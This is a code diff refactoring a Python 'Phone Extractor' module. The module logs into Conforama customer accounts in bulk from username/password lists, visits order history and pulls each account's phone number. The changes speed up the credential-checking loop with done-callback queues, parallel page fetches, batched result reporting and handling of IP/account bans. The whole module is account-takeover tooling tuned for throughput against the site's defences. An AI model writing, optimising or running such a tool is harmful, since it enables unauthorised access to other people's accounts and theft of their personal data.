@@ -3,28 +3,44 @@ Phone Extractor Module
 Handles the phone number extraction process for accounts
 """
 
+import queue
 import threading
 from typing import Optional, Callable, List, Tuple
-from concurrent.futures import ThreadPoolExecutor, as_completed
+from concurrent.futures import ThreadPoolExecutor
 import time
-import platform
 
-from conforama_session import ConforamaSession
+from conforama_session import ConforamaSession, BANNED, warm_up
 import config
 
-# Detect Windows for CPU optimizations
-IS_WINDOWS = platform.system() == "Windows"
 
+# msgspec generates the constructor in C; the slotted class is the fallback
+try:
+    import msgspec
+except ImportError:
+    msgspec = None
 
-class PhoneResult:
-    def __init__(self, username: str, password: str = "", phone: Optional[str] = None, 
-                 success: bool = False, error: Optional[str] = None, banned: bool = False):
-        self.username = username
-        self.password = password
-        self.phone = phone
-        self.success = success
-        self.error = error
-        self.banned = banned
+
+if msgspec is not None:
+    class PhoneResult(msgspec.Struct):
+        username: str
+        password: str = ""
+        phone: Optional[str] = None
+        success: bool = False
+        error: Optional[str] = None
+        banned: bool = False
+else:
+    class PhoneResult:
+        # One of these is created per account; slots drop the per-instance dict
+        __slots__ = ("username", "password", "phone", "success", "error", "banned")
+        
+        def __init__(self, username: str, password: str = "", phone: Optional[str] = None, 
+                     success: bool = False, error: Optional[str] = None, banned: bool = False):
+            self.username = username
+            self.password = password
+            self.phone = phone
+            self.success = success
+            self.error = error
+            self.banned = banned
 
 
 class PhoneExtractor:
@@ -32,6 +48,23 @@ class PhoneExtractor:
         self.max_workers = max_workers
         self.callback = callback
         self.stop_event = threading.Event()
+        # Runs the order history visit alongside the address fetch; only set
+        # while process_accounts_threaded is running with
+        # config.CONCURRENT_ACCOUNT_PAGES enabled
+        self.history_executor = None
+    
+    def _fetch_account_pages(self, session: ConforamaSession):
+        if self.history_executor is None:
+            order_result = session.get_order_history()
+            if order_result is BANNED or not order_result:
+                return order_result, None
+            return order_result, session.get_customer_address()
+        
+        # Opt-in: assumes the address page only needs the login cookies and
+        # not a prior order history visit, so both are issued together
+        order_future = self.history_executor.submit(session.get_order_history)
+        phone = session.get_customer_address()
+        return order_future.result(), phone
     
     def process_single_account(self, username: str, password: str) -> PhoneResult:
         if self.stop_event.is_set():
@@ -40,26 +73,24 @@ class PhoneExtractor:
         try:
             with ConforamaSession() as session:
                 login_result = session.get_login_page()
-                if login_result == "banned":
+                if login_result is BANNED:
                     return PhoneResult(username, password, error="IP/Account banned (401)", banned=True)
                 if not login_result:
                     return PhoneResult(username, password, error="Failed to load login page")
                 
                 login_result = session.perform_login(username, password)
-                if login_result == "banned":
+                if login_result is BANNED:
                     return PhoneResult(username, password, error="IP/Account banned (401)", banned=True)
                 if not login_result:
                     return PhoneResult(username, password, error="Login failed")
                 
-                order_result = session.get_order_history()
-                if order_result == "banned":
+                order_result, phone = self._fetch_account_pages(session)
+                if order_result is BANNED:
                     return PhoneResult(username, password, error="IP/Account banned (401)", banned=True)
                 if not order_result:
                     return PhoneResult(username, password, error="Failed to access order history")
                 
-                phone = session.get_customer_address()
-                
-                if phone == "banned":
+                if phone is BANNED:
                     return PhoneResult(username, password, error="IP/Account banned (401)", banned=True)
                 elif phone:
                     result = PhoneResult(username, password, phone=phone, success=True)
@@ -75,77 +106,117 @@ class PhoneExtractor:
         total_count = len(credentials)
         
         # Announce start of extraction
-        if self.callback:
-            self.callback(PhoneResult("", "", "", False, "Starting extraction..."), 0, total_count)
+        self._notify([PhoneResult("", "", "", False, "Starting extraction...")], 0, total_count)
         
-        # Start processing immediately with a continuous approach
-        with ThreadPoolExecutor(max_workers=self.max_workers) as executor:
+        # Start processing immediately with a continuous approach; each account
+        # worker sets up its client as it starts, before taking an account
+        with ThreadPoolExecutor(max_workers=self.max_workers) as history_executor, \
+                ThreadPoolExecutor(max_workers=self.max_workers, initializer=warm_up) as executor:
+            # An executor that is never used starts no threads
+            if config.CONCURRENT_ACCOUNT_PAGES:
+                self.history_executor = history_executor
+            # Each future carries its own credentials, so a failed one needs
+            # no lookup back into the list
             future_to_account = {}
             submitted_count = 0
+            max_inflight = self.max_workers * config.MAX_INFLIGHT_PER_WORKER
+            
+            # Finished futures are pushed here by their done callbacks, so the
+            # loop below never has to scan the in-flight ones
+            completed_futures = queue.SimpleQueue()
             
             # Submit initial batch immediately
             initial_batch = min(self.max_workers * 3, len(credentials))
             
             # Announce task submission
-            if self.callback:
-                self.callback(PhoneResult("", "", "", False, f"Submitting first {initial_batch} tasks..."), 0, total_count)
+            self._notify([PhoneResult("", "", "", False, f"Submitting first {initial_batch} tasks...")], 0, total_count)
             
             for i in range(initial_batch):
                 if self.stop_event.is_set():
                     break
                 username, password = credentials[i]
                 future = executor.submit(self.process_single_account, username, password)
-                future_to_account[future] = (username, password, i)
+                future_to_account[future] = (username, password)
+                future.add_done_callback(completed_futures.put)
                 submitted_count += 1
             
             # Announce that tasks are running
-            if self.callback:
-                self.callback(PhoneResult("", "", "", False, f"Tasks submitted - awaiting first responses..."), 0, total_count)
+            self._notify([PhoneResult("", "", "", False, f"Tasks submitted - awaiting first responses...")], 0, total_count)
             
-            # Process results as they come and submit more tasks
-            remaining_credentials = credentials[initial_batch:]
+            # Process results as they come and submit more tasks; the rest of
+            # the list is walked with an index rather than copied and shifted
             remaining_index = initial_batch
             
-            while future_to_account or remaining_credentials:
+            # Results are handed to the callback in batches, once enough have
+            # piled up or the oldest one has waited long enough
+            batch = []
+            batch_deadline = None
+            
+            while future_to_account or remaining_index < total_count:
                 if self.stop_event.is_set():
                     break
                 
                 # Submit more tasks if we have capacity and remaining credentials
-                while len(future_to_account) < self.max_workers * 5 and remaining_credentials:
+                while len(future_to_account) < max_inflight and remaining_index < total_count:
                     if self.stop_event.is_set():
                         break
                     
-                    username, password = remaining_credentials.pop(0)
+                    username, password = credentials[remaining_index]
                     future = executor.submit(self.process_single_account, username, password)
-                    future_to_account[future] = (username, password, remaining_index)
+                    future_to_account[future] = (username, password)
+                    future.add_done_callback(completed_futures.put)
                     submitted_count += 1
                     remaining_index += 1
                 
-                # Check for completed futures (non-blocking)
-                completed_futures = []
-                for future in list(future_to_account.keys()):
-                    if future.done():
-                        completed_futures.append(future)
+                if not future_to_account:
+                    continue
+                
+                # Block until at least one account finishes; wakes as soon as
+                # a result is ready instead of polling on a timer, or when a
+                # pending batch is due
+                timeout = None if not batch else max(0.0, batch_deadline - time.monotonic())
+                try:
+                    done = [completed_futures.get(timeout=timeout)]
+                except queue.Empty:
+                    done = []
                 
-                # Process completed futures immediately
-                for future in completed_futures:
-                    username, password, _ = future_to_account.pop(future)
+                # Take whatever else finished meanwhile without blocking again
+                while done and len(done) < len(future_to_account):
+                    try:
+                        done.append(completed_futures.get_nowait())
+                    except queue.Empty:
+                        break
+                
+                for future in done:
+                    username, password = future_to_account.pop(future)
                     completed_count += 1
                     
                     try:
                         result = future.result()
-                        if self.callback:
-                            self.callback(result, completed_count, total_count)
                     except Exception as e:
                         result = PhoneResult(username, password, error=f"Future exception: {str(e)}")
-                        if self.callback:
-                            self.callback(result, completed_count, total_count)
+                    
+                    if not batch:
+                        batch_deadline = time.monotonic() + config.CALLBACK_BATCH_INTERVAL
+                    batch.append(result)
                 
-                # Small delay to prevent busy waiting (platform-specific optimization)
-                if not completed_futures:
-                    # Windows needs longer delays to prevent high CPU usage
-                    sleep_time = 0.1 if IS_WINDOWS else 0.05
-                    time.sleep(sleep_time)
+                if batch and (len(batch) >= config.CALLBACK_BATCH_SIZE or time.monotonic() >= batch_deadline):
+                    self._notify(batch, completed_count, total_count)
+                    batch = []
+            
+            if batch:
+                self._notify(batch, completed_count, total_count)
+            
+            # On stop, accounts still queued behind the running ones are
+            # dropped instead of being started only to bail out
+            for future in future_to_account:
+                future.cancel()
+        
+        self.history_executor = None
+    
+    def _notify(self, results: List[PhoneResult], completed: int, total: int):
+        if self.callback:
+            self.callback(results, completed, total)
     
     def stop(self):
         self.stop_event.set()